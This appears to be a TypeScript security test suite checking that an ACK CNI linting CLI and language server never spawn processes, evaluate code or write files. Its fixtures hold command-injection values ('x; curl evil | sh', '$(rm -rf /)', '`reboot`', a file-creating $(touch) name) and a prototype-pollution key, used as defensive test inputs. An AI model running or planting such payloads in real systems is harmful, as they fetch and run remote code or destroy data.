/**
 * At run time, the CLI and the language server start no process, run no string as code and write no file,
 * whatever the workspace holds: both run here with test/security/no-exec.cjs preloaded, which makes each
 * such attempt print an "ACK-CNI-SECURITY:" line and throw. The inputs cover every kind of file the product
 * reads: manifests, broken YAML, templates, JSON, profiles with `from:`, Terraform (WebAssembly parser),
 * eni-config and CreateCluster bodies, and the real-world corpus through the CLI.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  CodeActionRequest,
  CompletionRequest,
  DocumentDiagnosticRequest,
  HoverRequest,
  type FullDocumentDiagnosticReport,
} from 'vscode-languageserver-protocol/node';
import { pullCapabilities, TestClient } from '../helpers/lspClient';
import { corpusDir } from '../helpers/corpus';

const root = path.resolve(__dirname, '../..');
const cli = path.join(root, 'dist/cli.js');
const preload = path.join(__dirname, 'no-exec.cjs');
const corpus = corpusDir;
const marker = 'ACK-CNI-SECURITY:';
// Every process this file starts (CLI, language server) loads the guard after the no-network one.
process.env.NODE_OPTIONS = `${process.env.NODE_OPTIONS ?? ''} --require ${preload}`.trim();

function runCli(args: string[], cwd: string) {
  const result = spawnSync(process.execPath, [cli, ...args], { cwd, encoding: 'utf8', maxBuffer: 256 * 1024 * 1024, env: { ...process.env, LANG: 'C' } });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

const terraform = [
  'resource "alicloud_cs_managed_kubernetes" "k8s" {',
  '  cluster_spec       = "ack.pro.small"',
  '  pod_cidr           = "172.20.0.0/16"',
  '  service_cidr       = "172.21.0.0/20"',
  '  addons { name = "flannel" }',
  '  # a comment with $(rm -rf /) and `id` in it',
  '}',
  '',
].join('\n');
const hostile = [
  'apiVersion: v1',
  'kind: Pod',
  'metadata:',
  '  name: "$(touch /tmp/ack-cni-pwned)"',
  '  annotations:',
  "    k8s.aliyun.com/pod-networks-request: '[{\"interfaceName\": \"eth1\", \"network\": \"require(\\'child_process\\')\"}]'",
  '    kubernetes.io/egress-bandwidth: "`reboot`"',
  '    constructor: "{{ .Values.x }}"',
  '    __proto__: polluted',
  'spec: {containers: [{name: a, image: "x; curl evil | sh"}]}',
  '',
].join('\n');

describe('no process, no code from strings, no file writes at run time', () => {
  test('the guard works: a process that tries any of these reports it', () => {
    for (const code of [
      "require('node:child_process').execSync('true')",
      "eval('1 + 1')",
      "new Function('return 1')()",
      "require('node:vm').runInNewContext('1')",
      "require('node:fs').writeFileSync(require('node:os').tmpdir() + '/ack-cni-guard-probe', 'x')",
      "require('node:fs').openSync(require('node:os').tmpdir() + '/ack-cni-guard-probe', 'w')",
    ]) {
      const result = spawnSync(process.execPath, ['-e', code], { encoding: 'utf8', env: process.env });
      assert.notEqual(result.status, 0, code);
      assert.ok(result.stderr.includes(marker), `${code}: ${result.stderr}`);
    }
    const harmless = spawnSync(process.execPath, ['-e', "require('node:fs').readFileSync(process.execPath); process.stdout.write('ok')"], { encoding: 'utf8', env: process.env });
    assert.equal(harmless.status, 0, harmless.stderr);
    assert.equal(harmless.stdout, 'ok');
  });

  test('the CLI over the test workspace, examples/, a Terraform cluster and hostile values, in every format', () => {
    const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ack-cni-runtime-')));
    try {
      fs.writeFileSync(path.join(dir, 'main.tf'), terraform);
      fs.writeFileSync(path.join(dir, 'hostile.yaml'), hostile);
      fs.writeFileSync(path.join(dir, '.ack-cni.yaml'), 'cni: flannel\nfrom: ./main.tf\n');
      const runs: Array<[string[], string]> = [
        [['.'], path.join(root, 'test/fixtures/workspace')],
        [['examples', '--format', 'json'], root],
        [['.', '--format', 'sarif'], path.join(root, 'test/fixtures/cluster-config')],
        [['.', '--format', 'sarif'], dir],
      ];
      for (const [args, cwd] of runs) {
        const { code, stderr } = runCli(args, cwd);
        assert.ok(!stderr.includes(marker), `${args.join(' ')} in ${cwd}:\n${stderr}`);
        assert.ok(code === 0 || code === 1, `exit ${code}: ${stderr}`);
      }
      assert.equal(fs.existsSync('/tmp/ack-cni-pwned'), false);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test('the CLI over the real-world corpus', { skip: fs.existsSync(corpus) ? false : `corpus not found at ${corpus}`, timeout: 300_000 }, () => {
    const { code, stderr } = runCli(['--cni', 'terway', '--format', 'json', '.'], corpus);
    assert.ok(!stderr.includes(marker), stderr);
    assert.ok(code === 0 || code === 1, `exit ${code}: ${stderr}`);
  });

  describe('the language server through a whole session', () => {
    let client: TestClient;
    let dir: string;
    before(async () => {
      dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ack-cni-runtime-lsp-')));
      fs.mkdirSync(path.join(dir, 'infra'));
      fs.writeFileSync(path.join(dir, 'infra/main.tf'), terraform);
      fs.writeFileSync(path.join(dir, '.ack-cni.yaml'), 'cni: flannel\nfrom: ./infra/main.tf\n');
      fs.writeFileSync(path.join(dir, 'hostile.yaml'), hostile);
      client = new TestClient();
      await client.initialize(dir, pullCapabilities);
    });
    after(async () => {
      await client.shutdown();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    test('diagnostics, hover, completion and code actions on a manifest, a profile and a .tf file', async () => {
      const documents: Array<[string, string, string]> = [
        [`file://${dir}/hostile.yaml`, hostile, 'yaml'],
        [`file://${dir}/.ack-cni.yaml`, 'cni: flannel\nfrom: ./infra/main.tf\nterway: {eniMode: share}\n', 'yaml'],
        [`file://${dir}/infra/main.tf`, terraform, 'terraform'],
      ];
      for (const [uri, text, languageId] of documents) {
        await client.open(uri, text, languageId);
        const report = (await client.connection.sendRequest(DocumentDiagnosticRequest.type, { textDocument: { uri } })) as FullDocumentDiagnosticReport;
        const lines = text.split('\n');
        for (let line = 0; line < lines.length; line++) {
          const position = { line, character: Math.min(6, lines[line].length) };
          await client.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position });
          await client.connection.sendRequest(CompletionRequest.type, { textDocument: { uri }, position });
        }
        await client.connection.sendRequest(CodeActionRequest.type, {
          textDocument: { uri },
          range: { start: { line: 0, character: 0 }, end: { line: lines.length, character: 0 } },
          context: { diagnostics: report.items },
        });
        await client.connection.sendRequest(CodeActionRequest.type, {
          textDocument: { uri },
          range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
          context: { diagnostics: [], only: ['source.fixAll.ackCni'] },
        });
      }
      assert.equal(client.child.exitCode, null, 'the server is still running');
      assert.ok(!client.stderr.includes(marker), client.stderr);
    });
  });
});
